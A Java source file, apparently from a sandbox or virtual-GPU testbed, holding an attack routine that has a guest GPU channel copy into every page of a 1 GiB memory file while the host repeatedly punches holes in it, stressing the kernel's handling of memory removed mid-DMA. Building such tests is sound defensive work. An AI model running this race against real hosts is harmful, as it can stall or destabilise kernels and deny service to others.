package io.sluice.testbed.attack;

import io.sluice.abi.sys.Fd;
import io.sluice.abi.sys.Kernel;
import io.sluice.abi.sys.Mapping;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;

/** Attacks by memory that is taken away while the GPU is at it, which takes the kernel long. */
final class PunchAttacks {
  private static final long PAGE = 4096;
  private static final long LIST = 0x10_0000;
  private static final long FILE = 1L << 32;
  private static final long FILE_BYTES = 1L << 30;
  private static final int M2MF = 2;
  private static final int PITCHED = 1 << 4 | 1 << 8;
  private static final int WORD = 4;

  private PunchAttacks() {}

  /** Copies to every page of a file, all of whose pages are taken out of it meanwhile. */
  static void punched(Means means) {
    Kernel kernel = means.kernel();
    try (RawGuest guest = RawGuest.attach(kernel, means.socket());
        Mapping list = guest.share(LIST, 1 << 20);
        Fd file = kernel.memfdCreate("punched", FILE_BYTES);
        Mapping own = kernel.mmap(file, 0, FILE_BYTES, Kernel.PROT_READ | Kernel.PROT_WRITE)) {
      int refused = guest.dmaMap(FILE, FILE_BYTES, file);
      if (refused != 0) {
        throw new RawGuest.Refused("memory of " + FILE_BYTES + " bytes");
      }
      list.segment().set(ValueLayout.JAVA_LONG, 0, FILE);
      list.segment().set(ValueLayout.JAVA_LONG, 8, FILE_BYTES);
      int buffer = guest.register(FILE_BYTES);
      guest.pages(buffer, 1, 0, LIST);
      int space = guest.space();
      long target = guest.map(space, buffer);
      RawChannel channel = new RawChannel(guest, space);
      channel.submit(RawChannel.method(M2MF, 0, 0x9039));
      do {
        touch(own.segment());
        channel.submit(RawChannel.method(M2MF, 0x238, (int) (target >>> 32), (int) target));
        channel.submit(oneWordToEachPage(channel.address));
        channel.submit(RawChannel.method(M2MF, 0x300, PITCHED));
        kernel.punchHole(file, 0, FILE_BYTES);
      } while (!means.over().getAsBoolean());
    }
  }

  /** Source, its pitch, that of the target, the length of a line, the lines. */
  private static int[] oneWordToEachPage(long from) {
    int pages = (int) (FILE_BYTES / PAGE);
    return RawChannel.method(
        M2MF, 0x30c, (int) (from >>> 32), (int) from, 0, (int) PAGE, WORD, pages);
  }

  private static void touch(MemorySegment pages) {
    for (long at = 0; at < pages.byteSize(); at += PAGE) {
      pages.set(ValueLayout.JAVA_BYTE, at, (byte) 1);
    }
  }
}
